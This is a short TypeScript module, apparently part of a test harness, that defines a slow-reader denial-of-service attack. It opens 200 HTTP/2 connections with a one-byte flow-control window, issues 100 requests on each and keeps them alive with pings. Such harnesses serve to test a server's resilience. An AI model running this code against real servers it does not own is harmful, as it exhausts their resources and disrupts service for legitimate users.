import { connect } from "node:http2";
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "../../attack.ts";

const connections = 200;
const streams = 100;

/** Connections that request a page on every stream and accept one byte of each. */
export const tcpSlowReaders: Attack = {
  name: "readers that do not read, over TCP",
  unit: "requests",
  async run({ host, port, certificate: ca }, signal, tally) {
    const url = `https://${host}:${port}`;
    const options = { ca, servername: "localhost", settings: { initialWindowSize: 1 } };
    const sessions = Array.from({ length: connections }, () => {
      const session = connect(url, options);
      session.on("error", () => undefined);
      session.once("connect", () => {
        for (let i = 0; i < streams; i++, tally())
          session.request({ ":path": "/v1/openapi.json" }).on("error", () => undefined);
      });
      return session;
    });
    // Pings keep the connections alive.
    while (!signal.aborted) {
      for (const session of sessions) if (!session.destroyed) session.ping(() => undefined);
      await sleep(1000, undefined, { signal }).catch(() => undefined);
    }
    for (const session of sessions) session.destroy();
  },
};
